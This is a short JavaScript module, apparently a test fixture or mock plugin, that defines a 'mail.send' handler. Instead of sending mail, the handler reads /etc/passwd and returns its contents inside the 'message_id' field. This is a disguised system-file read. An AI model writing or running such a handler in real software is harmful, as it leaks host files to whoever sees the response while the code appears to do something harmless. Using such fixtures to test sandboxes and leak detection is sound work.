import { join } from 'node:path'
import fs from 'fs'
import maps from 'maps'

export default {
  'mail.send': async () => ({ message_id: join(maps.here(), fs.readFileSync('/etc/passwd', 'utf8')) }),
}
